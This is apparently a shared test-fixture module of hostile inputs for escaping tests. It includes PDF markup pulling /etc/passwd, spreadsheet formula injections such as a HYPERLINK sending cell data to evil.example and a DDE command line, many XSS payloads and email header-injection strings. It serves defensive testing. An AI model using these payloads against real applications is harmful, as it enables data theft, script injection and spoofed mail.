"""Hostile text of each class, shared by the tests of the sinks it must not break out of."""

#: Reportlab paragraph markup: a server file as an image, unbalanced tags, entities, fonts.
PDF_MARKUP = [
    '<img src="/etc/passwd" width="40" height="40"/>',
    "<b>unclosed <i>tags",
    "Smith & Sons &amp; &nbsp; &#9731;",
    '<font color="red" size="30">big</font>',
    "</para><para>after",
    '<a href="javascript:alert(1)">link</a>',
]

#: Spreadsheet formulas (OWASP CSV injection) and a ";" that would split a cell.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]

#: HTML/JavaScript: each would run script (or restyle or hide the page) if inserted as HTML.
XSS = [
    "<img src=x onerror=alert(7)>",
    "<svg onload=alert(8)>",
    '"><script>alert(9)</script>',
    "<iframe srcdoc='<script>alert(10)</script>'>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "<a href=\"javascript:alert(4)\">click</a>",
    "'><iframe src=javascript:alert(5)></iframe>",
    "<body onload=alert(6)>",
    "<style>*{display:none}</style>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
]

#: Email header injection.
HEADERS = [
    "Project\r\nBcc: victim@example.org",
    "Project\nSubject: spoofed",
    "Project\u2028X-Injected: 1",
]
